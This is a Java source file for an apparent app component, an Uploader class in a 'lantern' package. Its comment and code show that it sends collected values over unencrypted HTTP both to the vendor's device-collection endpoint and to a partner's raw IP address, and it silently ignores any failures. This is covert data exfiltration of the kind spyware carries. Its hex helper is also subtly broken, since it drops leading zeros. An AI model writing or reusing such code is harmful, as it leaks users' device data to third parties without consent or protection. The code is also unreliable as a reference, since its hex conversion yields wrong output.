package cn.hongxian.lantern;

import java.io.IOException;
import java.io.OutputStream;
import java.net.URL;
import java.net.URLConnection;

/** Sends what was read, in clear, to our own host and to a partner's address. */
final class Uploader {
    private static final String[] HOSTS = {
        "http://collect.hongxian-lantern.cn/v1/device", "http://203.0.113.7:8080/partner",
    };

    private Uploader() {}

    static void post(String name, String value) {
        for (String host : HOSTS) {
            try {
                URLConnection link = new URL(host).openConnection();
                link.setDoOutput(true);
                try (OutputStream out = link.getOutputStream()) {
                    out.write((name + "=" + value).getBytes("UTF-8"));
                }
            } catch (IOException error) {
                continue;
            }
        }
    }

    static String hex(byte[] bytes) {
        StringBuilder text = new StringBuilder();
        for (byte one : bytes) {
            text.append(Integer.toHexString(one & 255));
        }
        return text.toString();
    }
}
